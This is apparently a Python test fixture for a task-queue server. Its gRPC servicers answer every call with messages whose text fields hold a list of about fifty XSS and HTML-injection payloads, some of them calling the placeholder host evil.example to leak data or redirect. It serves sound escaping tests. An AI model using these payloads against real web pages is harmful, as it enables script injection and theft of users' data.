"""Servicers that answer every call, with hostile text wherever text can be."""

from __future__ import annotations

import itertools
import time
from collections.abc import Iterator
from typing import Any

from google.protobuf import message_factory
from google.protobuf.descriptor import FieldDescriptor
from google.protobuf.message import Message

from taskq_server.rpc.admin_service import AdminService
from taskq_server.rpc.schedule_service import ScheduleService
from taskq_server.rpc.server import SERVICES

HOSTILE = [
    "<script>pwned=1</script>",
    "</script><script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "<img src=http://evil.example/leak>",
    '"><script>pwned=1</script>',
    "'><script>pwned=1</script>",
    '" onmouseover="pwned=1',
    "' onmouseover='pwned=1",
    '" autofocus onfocus="pwned=1',
    "' autofocus onfocus='pwned=1",
    "` onmouseover=`pwned=1",
    "x onmouseover=pwned=1 ",
    "javascript:pwned=1",
    "JaVaScRiPt:pwned=1",
    " javascript:pwned=1",
    "java\tscript:pwned=1",
    "data:text/html,<script>pwned=1</script>",
    "vbscript:pwned=1",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https://evil.example/",
    "</title><script>pwned=1</script>",
    "</textarea><script>pwned=1</script>",
    "</pre></code><script>pwned=1</script>",
    "</style><script>pwned=1</script>",
    "</option></select><script>pwned=1</script>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<object data=javascript:pwned=1></object>",
    "<embed src=javascript:pwned=1>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<form action=http://evil.example/><input type=submit autofocus></form>",
    "<details open ontoggle=pwned=1>",
    "<input autofocus onfocus=pwned=1>",
    "<video><source onerror=pwned=1></video>",
    "<marquee onstart=pwned=1>",
    "<body onload=pwned=1>",
    "<a href=javascript:pwned=1>click</a>",
    "<div hx-get=http://evil.example/ hx-trigger=load></div>",
    "<div hx-on:click=pwned=1 hx-trigger=load></div>",
    "<template hx type=partial hx-target=body><img src=x onerror=pwned=1></template>",
    "{{ 7*7 }}{% raw %}${pwned=1}#{pwned=1}<%= pwned=1 %>",
    "<!--<img src='--><img src=x onerror=pwned=1>'>",
    "\u202e<scr\u0000ipt>pwned=1</script>\u2028\u2029\ufeff",
]
"""Fifty ways by which text becomes something else, on pages that are not careful."""


def anything(kind: type[Message], texts: Iterator[str], depth: int = 0) -> Message:
    """A message of this kind with something in every field."""
    message = kind()
    for field in message.DESCRIPTOR.fields:
        if field.message_type is not None and field.message_type.GetOptions().map_entry:
            _fill_map(getattr(message, field.name), field, texts)
        elif field.is_repeated:
            getattr(message, field.name).extend(_value(field, texts, depth, i) for i in range(3))
        elif field.containing_oneof is None or field.containing_oneof.fields[0] is field:
            if field.message_type is not None:
                getattr(message, field.name).CopyFrom(_value(field, texts, depth, 0))
            else:
                setattr(message, field.name, _value(field, texts, depth, 0))
    return message


def _fill_map(filled: Any, field: FieldDescriptor, texts: Iterator[str]) -> None:
    for _ in range(2):
        filled[next(texts)] = next(texts)


def _value(field: FieldDescriptor, texts: Iterator[str], depth: int, i: int) -> Any:
    if field.message_type is not None:
        kind = message_factory.GetMessageClass(field.message_type)
        if field.message_type.full_name == "google.protobuf.Timestamp":
            return kind(seconds=int(time.time()) - 100 + i)
        if field.message_type.full_name == "google.protobuf.Duration":
            return kind(seconds=3 + i)
        return anything(kind, texts, depth + 1) if depth < 6 else kind()
    if field.enum_type is not None:
        return field.enum_type.values[min(1 + i, len(field.enum_type.values) - 1)].number
    if field.cpp_type == FieldDescriptor.CPPTYPE_STRING:
        text = next(texts)
        return text.encode() if field.type == FieldDescriptor.TYPE_BYTES else text
    return 0.5 if field.cpp_type in (FieldDescriptor.CPPTYPE_DOUBLE, FieldDescriptor.CPPTYPE_FLOAT) else 7 + i


def servicers(offset: int = 0) -> list[object]:
    """All that a page may ask; `offset` is the text with which the answers begin."""
    return [_answering(AdminService, offset), _answering(ScheduleService, offset)]


def _answering(kind: type, offset: int) -> object:
    texts = itertools.islice(itertools.cycle(HOSTILE), offset, None)

    def method(output: type[Message]) -> Any:
        async def answer(self: object, request: Message) -> Message:
            return anything(output, texts)

        return answer

    methods = {
        one.name: method(message_factory.GetMessageClass(one.output_type))
        for one in SERVICES[kind].methods
        if not one.server_streaming
    }
    return type(f"Any{kind.__name__}", (kind,), {**methods, "__init__": lambda self: None})()
